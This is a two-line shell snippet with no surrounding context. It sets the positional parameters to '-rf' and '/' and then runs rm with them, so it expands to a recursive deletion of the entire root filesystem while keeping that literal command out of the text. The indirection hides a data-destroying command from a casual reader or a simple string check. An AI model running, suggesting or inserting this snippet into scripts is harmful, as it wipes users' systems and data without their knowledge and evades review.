set -- -rf /
rm "$@"
